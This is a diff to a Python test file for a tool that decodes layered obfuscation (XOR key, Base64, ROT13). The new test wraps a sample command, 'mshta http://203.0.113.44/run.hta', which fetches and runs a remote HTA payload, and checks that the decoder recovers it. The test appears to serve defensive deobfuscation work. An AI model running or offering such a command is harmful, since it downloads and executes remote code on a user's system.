@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import base64
+import codecs
 import gzip
 import io
 import random
@@ -88,6 +89,14 @@ def solved(seeds: range, *, layers: int = 4, plains: tuple[str, ...] = chains.PL
 def test_chains_of_one_to_four_layers_are_decoded():
     right, failed = solved(range(60))
     assert right >= 57, failed
+
+
+@pytest.mark.parametrize("key", [0x21, 0x5A, 0xC3])
+def test_an_alphabet_over_base64_over_a_key_is_decoded(key: int):
+    """Base64 in another alphabet is Base64 still: only a key below it tells the right alphabet."""
+    plain = "mshta http://203.0.113.44/run.hta"
+    wrapped = codecs.encode(base64.b64encode(bytes(char ^ key for char in plain.encode())).decode(), "rot13")
+    assert plain in results(f"decode this: {wrapped}")
 
 
 @pytest.mark.long
